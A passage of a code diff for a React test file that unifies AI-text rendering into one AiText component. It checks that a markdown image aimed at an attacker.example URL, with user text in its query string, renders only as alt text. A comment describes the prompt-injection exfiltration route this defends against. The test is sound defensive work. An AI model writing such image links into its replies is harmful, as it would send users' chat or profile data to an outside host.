@@ -1,15 +1,12 @@
 import { render } from '@testing-library/react';
-import ChatMarkdown from '../routes/chat/Markdown';
-import { Markdown } from './Markdown';
+import { AiText } from './Markdown';
 
 // docs/decisions.md#the-browsers-defences: AI text renders no remote images, so a reply that a prompt
 // injection wrote cannot make the browser send chat or profile text to another host.
-const renderers = [
-  ['the bio and photo review screens', (text: string) => render(<Markdown>{text}</Markdown>)],
-  ["the chat's replies", (text: string) => render(<ChatMarkdown text={text} />)],
-] as const;
+// Every screen draws AI text with AiText: the chat's replies, the roasts, the photo reviews.
+const renderText = (text: string) => render(<AiText text={text} />);
 
-describe.each(renderers)('AI text on %s', (_screens, renderText) => {
+describe('AI text', () => {
   it('shows an image as its alt text, and draws no image', () => {
     const { container } = renderText(
       'Here is your bio.\n\n![profile summary](http://attacker.example/x?d=I%20love%20hiking) Good luck!',
